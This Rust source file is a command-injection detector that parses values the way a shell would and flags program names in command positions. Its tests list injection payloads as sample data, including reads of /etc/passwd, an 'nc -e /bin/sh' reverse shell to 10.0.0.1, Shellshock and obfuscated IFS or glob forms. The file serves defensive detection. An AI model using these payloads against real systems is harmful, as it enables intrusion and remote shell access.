//! OS command injection: the value is split into words and operators the way a POSIX shell (and, for the
//! caret escape and case-insensitive names, cmd.exe/PowerShell) would ([`lexer`]), then every *command
//! position* (after `;` `|` `||` `&&` `&` newline, inside `$(...)`/`` `...` ``/`(...)`, and the start of
//! the value) is checked for a known program ([`programs`]) with evidence in proportion to how ambiguous its
//! name is: `; whoami` is enough, `; cat food` is prose, `; cat /etc/passwd` is not.
//!
//! Owns: the shell view of a value. Must not touch: paths on their own (`traversal`), URLs (`ssrf`).

mod lexer;
mod programs;

use crate::{decode, Class, Finding};
use lexer::{Sep, Tok, Word};
use programs::Kind;

/// The prefilter's question for a value without shell syntax (one word of letters, digits, `.`, `_` and
/// `-`): could that word, alone, be a command the detector knows?
pub(crate) fn may_be_program(word: &[u8]) -> bool {
    programs::may_name_program(word)
}

/// Analyses `input` (and its decoded form, when decoding changes it) for command injection.
///
/// ```
/// use portcullis_detect::cmdi::detect;
/// assert!(detect(b"x;c'a't${IFS}/etc/passwd").is_some());
/// assert!(detect(b"Ham; eggs & cheese | toast").is_none());
/// ```
pub fn detect(input: &[u8]) -> Option<Finding> {
    crate::decode::or_base64(input, detect_plain)
}

/// [`detect`] without the shortcut for plain words ([`only_plain_words`]): the full analysis of every value,
/// kept public so tests can check that the shortcut never changes an answer (`tests/prefilter_necessary.rs`).
#[doc(hidden)]
pub fn detect_exhaustive(input: &[u8]) -> Option<Finding> {
    crate::decode::or_base64(input, analyse_all)
}

/// [`detect`] on a value that is its own only form (see the crate docs, "Own-form entry points").
#[doc(hidden)]
pub fn detect_own_form(input: &[u8]) -> Option<Finding> {
    detect_plain(input)
}

/// [`detect`] without the base64 layer.
fn detect_plain(input: &[u8]) -> Option<Finding> {
    if only_plain_words(input) || no_command_word(input) {
        return None;
    }
    analyse_all(input)
}

/// Longest piece [`no_command_word`] keeps to look at: a program name with its extension, or a directory path.
const PIECE_MAX: usize = 96;

/// The benign path for prose and header lists with quotes or separators (`Reader's edition: don't miss it`,
/// `Mozilla/5.0 (X11; Linux x86_64) ...`): `true` when no word the lexer can make is a command the detector
/// knows, so no position can report anything.
///
/// Every report names a word that is a known program (any case, one executable extension) or a path in a
/// binary directory or globbed like one (`/bin/sh`, `/???/??t`). Without `$` (expansions, ANSI-C strings,
/// `$0`), `\` (escapes, line continuations), `%` (the URL layers) and empty backticks, the lexer builds each
/// word from the value's bytes in order, dropping only quotes and carets, and ends it at bytes that stay in
/// the value (spaces, separators, parentheses, backticks, brace commas). So with quotes and carets removed,
/// any such word is one run of name-or-path bytes (`A-Z a-z 0-9 _ . - / ? *`), or a path ending inside
/// one: ask each run. Shellshock's `() {` is left to the analysis.
fn no_command_word(b: &[u8]) -> bool {
    if b.iter().any(|&c| matches!(c, b'$' | b'\\' | b'%')) || b.windows(2).any(|w| w == b"``") {
        return false;
    }
    if b.trim_ascii_start().first() == Some(&b'(') {
        return false;
    }
    let mut piece = [0u8; PIECE_MAX];
    let mut len = 0;
    let mut has_slash = false;
    // Each run is judged when a byte outside the run's alphabet (or the end) closes it.
    for &c in b.iter().chain(std::iter::once(&b' ')) {
        match c {
            b'\'' | b'"' | b'^' => {}
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'_' | b'.' | b'-' | b'/' | b'?' | b'*' => {
                if len < PIECE_MAX {
                    piece[len] = c;
                }
                len += 1;
                has_slash |= c == b'/';
            }
            _ => {
                if len > 0 && may_be_command_piece(&piece[..len.min(PIECE_MAX)], len > PIECE_MAX, has_slash) {
                    return false;
                }
                len = 0;
                has_slash = false;
            }
        }
    }
    true
}

/// One run of [`no_command_word`]: could a word ending in it be reported?
fn may_be_command_piece(piece: &[u8], truncated: bool, has_slash: bool) -> bool {
    if !has_slash {
        // Longer than any name with its extension when truncated.
        return !truncated && programs::may_name_program(piece);
    }
    if truncated || piece.iter().any(|&c| c == b'?' || c == b'*') {
        return true;
    }
    let (dir, _) = program_of(piece);
    dir.is_some_and(programs::is_bin_dir)
}

/// Bytes that give the shell more than words split by spaces and parentheses: separators (`;` `|` `&` line
/// breaks), substitution and expansion (`` ` `` `$`), quotes and escapes (`'` `"` `\` `^`), brace lists,
/// redirections, comments, percent-escapes (the URL layers [`analyse_all`] undoes) and every control byte.
static SHELL_SYNTAX: [bool; 256] = {
    let mut t = [false; 256];
    let bytes = b";|&`$'\"\\^{}<>#%";
    let mut i = 0;
    while i < bytes.len() {
        t[bytes[i] as usize] = true;
        i += 1;
    }
    let mut b = 0;
    while b < 0x20 {
        t[b] = true;
        b += 1;
    }
    t[0x7f] = true;
    t
};

/// The benign path for most header values, paths and prose without quotes (`anchor-bench/1.0 (wrk)`,
/// `/api/items/42`): `true` when the value provably cannot be reported, so the lexer need not run.
///
/// Without a [`SHELL_SYNTAX`] byte the lexer sees only literal words, `(` and `)`: no separator, substitution,
/// quote context, obfuscation, `$IFS`, brace list, redirection or URL layer. A command position other than
/// the start then needs a subshell `(` opening the value or following another `(`; without one, the only
/// word judged is the first that is not an assignment (`A=b cmd`), at the start of the value, and at the
/// start only a binary-directory path (`/bin/sh`) or a globbed one (`/???/??t`) is reported when nothing is
/// obfuscated — both hold a `/`. Shellshock's `() {` opens with `(` too.
fn only_plain_words(b: &[u8]) -> bool {
    if b.iter().any(|&c| SHELL_SYNTAX[c as usize]) {
        return false;
    }
    let is_space = |c: u8| matches!(c, b' ' | b'\t' | b'\r' | b'\x0b' | b'\x0c');
    // A `(` first, or after another `(` (spaces between), opens a subshell: its first word is in command
    // position. A `)` is passed over: unmatched it makes no token (`)(sh)` opens at the start), matched it
    // only makes a `(` after it look like one after the word before (more values go to the analysis).
    let mut prev = b'(';
    for &c in b {
        if c == b'(' && prev == b'(' {
            return false;
        }
        if !is_space(c) && c != b')' {
            prev = c;
        }
    }
    // The word in start position: words end at spaces and parentheses; assignments keep the position.
    let start_word =
        b.split(|&c| is_space(c) || c == b'(' || c == b')').filter(|w| !w.is_empty()).find(|w| !is_assignment(w));
    match start_word {
        Some(w) if w.contains(&b'/') => {
            let (dir, _) = program_of(w);
            !(dir.is_some_and(programs::is_bin_dir) || programs::is_globbed_bin_path(w))
        }
        _ => true,
    }
}

/// The shell analysis of one value: Shellshock, the value's quote contexts and its URL-decoded layers.
fn analyse_all(input: &[u8]) -> Option<Finding> {
    // Shellshock: a value that bash imports as a function definition runs what follows it.
    let t = input.trim_ascii_start();
    if t.starts_with(b"() {") || t.starts_with(b"(){") {
        let off = input.len() - t.len();
        return Some(Finding {
            class: Class::Cmdi,
            reason: "Shellshock function definition `() {`".into(),
            span: off..off + 4,
            signature: "(){".into(),
        });
    }
    if let Some(f) = in_contexts(input) {
        return Some(f);
    }
    // Layers of URL encoding (`%250a`) reach the shell decoded by the app stack; HTML entities and JS
    // escapes do not (no server decodes those before building a command line), so only URL layers count.
    let mut cur = decode::url_decode(input).into_owned();
    for _ in 0..3 {
        if cur.as_slice() == input {
            break;
        }
        if let Some(f) = in_contexts(&cur) {
            return Some(f);
        }
        let next = decode::url_decode(&cur).into_owned();
        if next == cur {
            break;
        }
        cur = next;
    }
    None
}

/// A markdown document (a PR body, a ticket) with fenced code blocks: each block is a snippet of its own, read
/// from its first line as a value is (a block that starts with a program is a script, so only obfuscation
/// counts in it; `;id` inside a block still counts), and the text around the blocks is read without them.
fn in_contexts(b: &[u8]) -> Option<Finding> {
    let Some(blocks) = fenced_blocks(b) else {
        return in_quote_contexts(b);
    };
    let mut text = Vec::with_capacity(b.len());
    let mut last = 0;
    for r in &blocks {
        text.extend_from_slice(&b[last..r.start]);
        text.push(b'\n');
        last = r.end;
    }
    text.extend_from_slice(&b[last..]);
    for r in blocks {
        let (fence, content) = (r.start, &b[r.clone()]);
        // The block's content starts after the opening fence line and ends before the closing fence.
        let body_start = content.iter().position(|&c| c == b'\n').map_or(content.len(), |p| p + 1);
        let body_end = content.iter().rposition(|&c| c == b'\n').filter(|&p| p >= body_start).unwrap_or(content.len());
        if let Some(mut f) = in_quote_contexts(&content[body_start..body_end]) {
            let off = fence + body_start;
            f.span = f.span.start + off..f.span.end + off;
            return Some(f);
        }
    }
    // Spans in the surrounding text are approximate (the blocks are cut out); the reason is what matters.
    in_quote_contexts(&text)
}

/// The byte ranges of markdown fenced code blocks (a line starting with three backticks or tildes, an optional
/// language, up to and including the closing fence line), or `None` when the value has no complete block.
fn fenced_blocks(b: &[u8]) -> Option<Vec<std::ops::Range<usize>>> {
    let mut blocks = Vec::new();
    let mut open: Option<(usize, u8)> = None;
    let mut line_start = 0;
    while line_start < b.len() {
        let line_end = b[line_start..].iter().position(|&c| c == b'\n').map_or(b.len(), |p| line_start + p);
        let line = b[line_start..line_end].trim_ascii();
        let fence = [b'`', b'~'].into_iter().find(|&f| line.len() >= 3 && line[..3].iter().all(|&c| c == f));
        match (open, fence) {
            (None, Some(f)) => {
                let info = &line[3..];
                if info.iter().all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'+' | b'.' | b' ')) {
                    open = Some((line_start, f));
                }
            }
            (Some((start, f)), Some(g)) if f == g && line.iter().all(|&c| c == f) => {
                blocks.push(start..line_end);
                open = None;
            }
            _ => {}
        }
        line_start = line_end + 1;
    }
    (!blocks.is_empty()).then_some(blocks)
}

/// The value may be pasted into the command line bare, inside `'...'` or inside `"..."`: an attacker
/// closes the quote first (`a'; whoami; '`). Analyse each context the value's quotes make possible.
fn in_quote_contexts(b: &[u8]) -> Option<Finding> {
    analyse(b).or_else(|| {
        for q in [b'\'', b'"'] {
            if b.contains(&q) {
                let mut v = Vec::with_capacity(b.len() + 1);
                v.push(q);
                v.extend_from_slice(b);
                if let Some(mut f) = analyse(&v) {
                    f.span = f.span.start.saturating_sub(1)..f.span.end.saturating_sub(1);
                    f.reason.push_str(if q == b'"' { " (inside double quotes)" } else { " (inside single quotes)" });
                    return Some(f);
                }
            }
        }
        None
    })
}

/// Where a command word stands.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Position {
    /// Start of the value: only unambiguous evidence counts (the app may pass the value as an argument).
    Start,
    /// After a separator.
    After(Sep),
    /// Inside `$(...)`, `<(...)`, a subshell `(...)` or backticks.
    Subst,
    /// Backticks in prose (markdown inline code): treated like text after a separator, strong names only.
    ProseBacktick,
}

fn analyse(b: &[u8]) -> Option<Finding> {
    let tokens = lexer::lex(b, is_markdown_table(b));
    let prose = is_prose(b);
    let mut pos = Some(Position::Start);
    let mut redirect_target = false;
    // A value that starts with a program (`ls -la ~/x && cd x`, `grep -rn TODO src/ | wc -l`) is a shell
    // snippet, not data with a command smuggled in: later commands belong to it and only obfuscation counts.
    let mut script = false;
    let mut i = 0;
    while i < tokens.len() {
        match &tokens[i] {
            Tok::Sep(s) => {
                pos = Some(Position::After(*s));
                redirect_target = false;
            }
            Tok::SubstOpen(backtick) => {
                pos = Some(if *backtick && prose { Position::ProseBacktick } else { Position::Subst });
            }
            // A subshell `(` starts a command only where a command may start (the beginning, after a separator
            // or another opening); after a word it is a shell syntax error, and in prose a parenthesised
            // comment: `anchor-bench/1.0 (curl)`, `Wget/1.21 (linux-gnu)`.
            Tok::Open => {
                if i == 0 || matches!(tokens[i - 1], Tok::Sep(_) | Tok::Open | Tok::SubstOpen(_)) {
                    pos = Some(Position::Subst);
                } else {
                    pos = None;
                }
            }
            Tok::Close => pos = None,
            Tok::Call => {}
            Tok::Redirect => redirect_target = true,
            Tok::Word(w) => {
                if redirect_target {
                    redirect_target = false;
                } else if let Some(p) = pos {
                    if is_assignment(&w.text) {
                        // `VAR=value cmd`: still in command position.
                    } else {
                        if let Some(f) = judge(w, p, &tokens[i + 1..], script) {
                            return Some(f);
                        }
                        if p == Position::Start && is_program(&w.text) {
                            script = true;
                        }
                        pos = None;
                    }
                }
            }
        }
        i += 1;
    }
    None
}

/// What follows a command word.
struct Args<'a> {
    /// `name(`: a function call, not a command.
    call: bool,
    first: Option<&'a Word>,
    second: Option<&'a Word>,
    /// Nothing but the end, a separator, a close or a redirection comes right after the command word.
    ends_right_after: bool,
    /// The first argument is the last word of the command.
    first_is_last: bool,
    redirected: bool,
}

fn args(rest: &[Tok]) -> Args<'_> {
    let mut a =
        Args { call: false, first: None, second: None, ends_right_after: true, first_is_last: true, redirected: false };
    for (k, t) in rest.iter().enumerate() {
        match t {
            Tok::Call if k == 0 => {
                a.call = true;
                break;
            }
            Tok::Word(w) if a.first.is_none() => {
                a.first = Some(w);
                a.ends_right_after = false;
            }
            Tok::Word(w) => {
                a.first_is_last = false;
                a.second = Some(w);
                break;
            }
            Tok::Redirect => {
                a.redirected = true;
                break;
            }
            // A `(` right after a word is a call or a subshell group; either way no argument.
            Tok::Open | Tok::SubstOpen(..) if k == 0 => {
                a.ends_right_after = false;
                break;
            }
            Tok::SubstOpen(..) => {
                a.first_is_last = false;
                break;
            }
            _ => break,
        }
    }
    a
}

/// Nothing but line breaks until the end: `\nid` or `\nid\n` ends the value, while `Fields:\nid\nname` is a
/// list of words one per line.
fn only_newlines(rest: &[Tok]) -> bool {
    rest.iter().all(|t| matches!(t, Tok::Sep(Sep::Newline)))
}

fn is_assignment(w: &[u8]) -> bool {
    let name = w.iter().take_while(|&&c| c.is_ascii_alphanumeric() || c == b'_').count();
    name > 0 && !w[0].is_ascii_digit() && w.get(name) == Some(&b'=')
}

/// Splits a command word into (directory, program) and normalises the program (`.exe` dropped), without
/// copying: every word in command position goes through here.
fn program_of(text: &[u8]) -> (Option<&[u8]>, &[u8]) {
    let cut = text.iter().rposition(|&c| c == b'/' || c == b'\\');
    let (dir, name) = match cut {
        Some(k) => (Some(&text[..=k]), &text[k + 1..]),
        None => (None, text),
    };
    let name = programs::EXTENSIONS
        .iter()
        .find(|ext| name.len() > ext.len() && name[name.len() - ext.len()..].eq_ignore_ascii_case(ext))
        .map_or(name, |ext| &name[..name.len() - ext.len()]);
    (dir, name)
}

/// Does this argument look like it was written for a shell rather than in a sentence?
fn shellish(w: &Word, is_last: bool) -> bool {
    let t = &w.text;
    let Some(&c0) = t.first() else { return w.quoted };
    if w.quoted || w.expanded || w.ifs_before {
        return true;
    }
    if c0 == b'-' && t.get(1).is_some_and(|&c| c.is_ascii_alphanumeric() || c == b'-') {
        return true;
    }
    if matches!(c0, b'/' | b'~' | b'$' | b'\\' | b'>' | b'<' | b'%' | b'*' | b'@') {
        return t.len() > 1;
    }
    if t.iter().any(|&c| matches!(c, b'/' | b'\\' | b'=' | b'*')) {
        return true;
    }
    // `file.txt`, `127.0.0.1`, `evil.com`: a dot between alphanumerics.
    if t.windows(3).any(|x| x[0].is_ascii_alphanumeric() && x[1] == b'.' && x[2].is_ascii_alphanumeric()) {
        return true;
    }
    // `sleep 5`, `ping -n 3`: a number that ends the command.
    is_last && t.iter().all(u8::is_ascii_digit)
}

fn is_program(text: &[u8]) -> bool {
    let (dir, name) = program_of(text);
    dir.is_some_and(programs::is_bin_dir) || (dir.is_none() && programs::lookup(name).is_some())
}

fn judge(w: &Word, pos: Position, rest: &[Tok], script: bool) -> Option<Finding> {
    let (dir, name) = program_of(&w.text);
    // `/???/??t`: a glob that the shell expands to a binary directory's program.
    let globbed = dir.is_some() && programs::is_globbed_bin_path(&w.text);
    let bin_dir = globbed || dir.is_some_and(programs::is_bin_dir);
    let known = programs::lookup(name);
    if !bin_dir && known.is_none() {
        return None;
    }
    // A path to a program outside the binary directories (`docs/cat`) is a file, not a command.
    if dir.is_some() && !bin_dir {
        return None;
    }
    let a = args(rest);
    if a.call {
        return None;
    }
    let arg_shellish = a.first.is_some_and(|f| shellish(f, a.first_is_last))
        // `find / -perm -4000`: the root alone, then an option.
        || a.first.is_some_and(|f| f.text == b"/") && a.second.is_some_and(|s| s.text.first() == Some(&b'-'))
        || known.is_some_and(|(n, _)| a.first.is_some_and(|f| verb_arg(n, &f.text)));
    let no_args = a.ends_right_after || (a.first.is_none() && a.redirected);
    let kind = known.map(|(_, k)| k);
    let obfuscated = w.obfuscated
        || globbed
        || w.ifs_before
        || a.first.is_some_and(|f| f.ifs_before)
        // `{cat,/etc/passwd}` is a trick; `{cat,dog,bird}` is a list.
        || w.brace && arg_shellish;

    let hit = match pos {
        // A value that starts with a program is a shell snippet (docs, code sharing, CI configs) unless it
        // hides what it is, or is a bare interpreter path (`/bin/sh -i`).
        Position::Start => {
            obfuscated && kind.is_some()
                || globbed
                || bin_dir && matches!(name, b"sh" | b"bash" | b"dash" | b"zsh" | b"ksh" | b"nc" | b"ncat" | b"socat")
        }
        Position::After(_) | Position::Subst => {
            bin_dir
                || obfuscated
                || matches!(kind, Some(Kind::Strong))
                || matches!(kind, Some(Kind::Weak))
                    && (arg_shellish || no_args && (pos != Position::After(Sep::Newline) || only_newlines(rest)))
                || matches!(kind, Some(Kind::Word)) && (arg_shellish || a.redirected)
                || pos == Position::Subst && !matches!(kind, Some(Kind::Word)) && a.first.is_some()
        }
        Position::ProseBacktick => bin_dir || obfuscated || matches!(kind, Some(Kind::Strong)),
    };
    if !hit || (script && !obfuscated) {
        return None;
    }
    let shown = String::from_utf8_lossy(&w.text).into_owned();
    let ctx = match pos {
        Position::Start => "at the start of the value".to_string(),
        Position::After(s) => format!("after `{}`", s.as_str()),
        Position::Subst | Position::ProseBacktick => "inside a command substitution".to_string(),
    };
    let how = if obfuscated { " (obfuscated)" } else { "" };
    let arg = a.first.map(|f| format!(" with argument `{}`", String::from_utf8_lossy(&f.text))).unwrap_or_default();
    let sig_sep = match pos {
        Position::After(s) => s.as_str(),
        Position::Start => "^",
        _ => "$(",
    };
    Some(Finding {
        class: Class::Cmdi,
        reason: format!("command `{shown}`{how} {ctx}{arg}"),
        span: w.start..w.end.max(w.start),
        signature: format!("{sig_sep}{}", String::from_utf8_lossy(name)),
    })
}

/// Sub-commands that make an everyday word a program: `net user`, `reg query`, `sc create`.
fn verb_arg(program: &str, arg: &[u8]) -> bool {
    let a = arg.to_ascii_lowercase();
    let verbs: &[&[u8]] = match program {
        "net" | "net1" => {
            &[b"user", b"localgroup", b"group", b"share", b"view", b"use", b"accounts", b"session", b"start", b"stop"]
        }
        "reg" => &[b"query", b"add", b"delete", b"export", b"save", b"import"],
        "sc" => &[b"query", b"create", b"config", b"start", b"stop", b"delete", b"qc"],
        _ => return false,
    };
    verbs.contains(&a.as_slice())
}

/// Markdown tables: their `|` are cell borders, not pipes.
fn is_markdown_table(b: &[u8]) -> bool {
    let mut rows = 0;
    for line in b.split(|&c| c == b'\n') {
        let t = line.trim_ascii();
        if t.first() == Some(&b'|') && t.iter().filter(|&&c| c == b'|').count() >= 2 {
            rows += 1;
            if rows >= 2 || t.windows(3).any(|w| w == b"---" || w == b"|:-") {
                return true;
            }
        }
    }
    false
}

/// Several words of running text: backticks there are markdown code spans, not substitutions.
fn is_prose(b: &[u8]) -> bool {
    let mut words = 0;
    for w in b.split(|c| c.is_ascii_whitespace()) {
        if w.len() >= 2 && w.iter().all(|c| c.is_ascii_alphabetic() || matches!(c, b',' | b'.' | b'\'' | b'!' | b'?')) {
            words += 1;
            if words >= 4 {
                return true;
            }
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shell_forms() {
        for a in [
            "; cat /etc/passwd",
            "| id",
            "`whoami`",
            "$(id)",
            "x && ls -la",
            "x || ping -c 10 127.0.0.1",
            "a\nuname -a",
            "x;c'a't /etc/passwd",
            "x;c\\at /etc/passwd",
            "x;\"w\"h\"o\"ami",
            "x;w$@hoami",
            "x;cat${IFS}/etc/passwd",
            "x;cat$IFS$9/etc/passwd",
            "x;{cat,/etc/passwd}",
            "x;${x:-id}",
            "x & ping -n 3 127.0.0.1",
            "x | powershell -enc SQBFAFgA",
            "x & cmd /c whoami",
            "x|/bin/sh -i",
            "/bin/bash -c 'id'",
            "x;sleep 5",
            "x & W^h^o^a^m^i",
            "x;$'\\x63\\x61\\x74' /etc/passwd",
            "x; nc -e /bin/sh 10.0.0.1 4444",
            "() { :; }; echo vulnerable",
            "x;/???/??t /???/p??s??",
            "notes\n```\n;id\n```\nthanks",
            "## Summary\n```sh\nls\n```\nthen; cat /etc/passwd",
        ] {
            assert!(detect(a.as_bytes()).is_some(), "{a}");
        }
    }

    #[test]
    fn prose_and_data() {
        for b in [
            "Ham; eggs & cheese | toast",
            "I like cats; cat lovers unite",
            "Tom && Jerry",
            "| id | name |\n|----|------|\n| 1 | bob |",
            "text/html; charset=utf-8",
            "https://example.com/?a=1&id=5&sort=desc",
            "Run `ls -la` to list the files in the current folder",
            "$(document).ready(function() { init(); })",
            "I need rest; sleep 8 hours",
            "AT&T and R&D; find out more",
            "echo",
            "cat",
            "for (i = 0; i < n; i++) { sum += a[i]; }",
            "## Summary\n\n```shell\nls -la ~/projects && cd ~/projects/site\n```\n\nCloses #18",
        ] {
            assert!(detect(b.as_bytes()).is_none(), "{b}: {:?}", detect(b.as_bytes()));
        }
    }
}
